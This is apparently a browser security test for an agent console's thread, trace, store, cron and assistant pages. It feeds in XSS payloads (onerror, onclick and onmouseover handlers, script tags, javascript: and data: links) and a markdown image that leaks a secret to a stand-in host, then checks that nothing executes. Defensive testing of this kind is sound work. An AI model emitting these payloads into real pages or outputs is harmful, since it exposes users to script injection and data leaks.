import { randomUUID } from 'node:crypto';
import { expect, it } from 'vitest';
import { describeInBrowser, useConsole } from './browser.ts';
import { enterKey, tracesOf } from './traces.ts';

const payloads = [
  '<img src=x onerror="alert(1)"><script>alert(2)</script>',
  '![secret](https://elsewhere.example/leak.png?q=secret)',
  '[click](javascript:alert(3)) [data](data:text/html,<script>alert(4)</script>)',
  '<a href="https://elsewhere.example" onmouseover="alert(5)">hover</a>',
  '[good](https://elsewhere.example/page)',
].join('\n\n');

const name = '<b onclick=alert(6)>\u202Etool</b>';

/** A thread of which every text is an attack. */
const messages = [
  { type: 'human', content: payloads, name },
  {
    type: 'ai',
    content: [
      { type: 'reasoning', reasoning: payloads },
      { type: 'text', text: payloads },
    ],
    tool_calls: [{ id: 'c', name, args: { [name]: payloads }, type: 'tool_call' }],
  },
  { type: 'tool', tool_call_id: 'c', content: payloads, name },
];

describeInBrowser('text of users and models', () => {
  const console = useConsole();

  it('is never executed, and loads nothing from elsewhere', async () => {
    const { thread_id: threadId } = await console.client.threads.create({
      graphId: 'agent',
      metadata: { [name]: payloads, case: 'hostile' },
      supersteps: [{ updates: [{ values: { messages }, as_node: 'agent' }] }],
    });
    const page = await console.open(`/threads/${threadId}`);
    await page.getByText('image not loaded: secret').first().waitFor();
    await page.getByRole('button', { name: /tool/ }).first().click();
    await page.getByText('Reasoning').click();
    const links = page.getByRole('log').getByRole('link');
    const hrefs = await links.evaluateAll((all) =>
      all.map((link) => [link.getAttribute('href'), link.getAttribute('rel')]),
    );
    expect(hrefs.filter(([href]) => href !== '')).toEqual(
      hrefs
        .filter(([href]) => href !== '')
        .map(() => ['https://elsewhere.example/page', 'noopener noreferrer nofollow']),
    );
    expect(hrefs.length).toBeGreaterThan(0);
    await expect.poll(() => page.getByText('‹U+202E›').count()).toBeGreaterThan(0);
    for (const tab of ['Checkpoints', 'Details']) {
      await page.getByRole('tab', { name: tab }).click();
      if (tab === 'Checkpoints') await page.getByRole('button', { name: /human, / }).click();
      await page.getByText('onerror').first().waitFor();
    }
    await page.goto(`${console.url}/console/threads?meta=case:hostile`);
    await page.getByRole('row').nth(1).waitFor();
    const { job_id: jobId } = await console.client.jobs.create({
      kind: 'retry_runs',
      filter: { metadata: { [name]: payloads } },
    });
    await console.client.jobs.start(jobId);
    await page.goto(`${console.url}/console/jobs?sel=${jobId}`);
    await page.getByText('‹U+202E›').first().waitFor();
    await expect
      .poll(() => page.locator('[onerror], [onclick], [onmouseover], script:not([src])').count())
      .toBe(0);
  });

  it('is never executed on the pages of traces, of the store, of crons and of assistants', async () => {
    const { client, url } = console;
    const metadata = { [name]: payloads };
    await client.store.put(['hostile'], payloads.slice(0, 200), metadata);
    const assistant = await client.assistants.create({
      graph_id: 'agent',
      name,
      description: payloads,
      metadata,
    });
    const cron = await client.crons.create(null, assistant.assistant_id, { schedule: '0 9 * * *', metadata });
    const traceId = randomUUID();
    const time = new Date().toISOString();
    const inputs = { messages: [messages], [name]: payloads };
    const span = { run_type: name, start_time: time, end_time: time, inputs, outputs: metadata };
    const { traces, projects } = tracesOf(url).client;
    await traces.create({
      ...span,
      id: traceId,
      name,
      error: payloads,
      session_name: 'hostile',
      extra: { metadata: { thread_id: name } },
    });
    await traces.addFeedback({ run_id: traceId, key: name, comment: payloads, value: metadata });
    const [project] = await projects.list({ name: 'hostile' });
    const page = await console.open(`/traces/${traceId}`);
    await enterKey(page);
    await page.getByRole('log').getByText('image not loaded: secret').first().waitFor();
    await page.getByRole('region', { name: 'Feedback' }).getByText('onerror').first().waitFor();
    const threads = `/traces?view=threads&project=${project?.id}`;
    const pages = [
      threads,
      `${threads}&thread=${encodeURIComponent(name)}`,
      '/store?prefix=hostile',
      `/crons/${cron.cron_id}`,
      `/assistants/${assistant.assistant_id}`,
    ];
    for (const path of ['', ...pages]) {
      if (path !== '') await page.goto(`${url}/console${path}`);
      await page.getByText('onerror').first().waitFor();
      await expect
        .poll(() => page.locator('[onerror], [onclick], [onmouseover], script:not([src])').count())
        .toBe(0);
    }
    // A dialog, an uncaught error, or a request to elsewhere fails the test after it.
  });
});
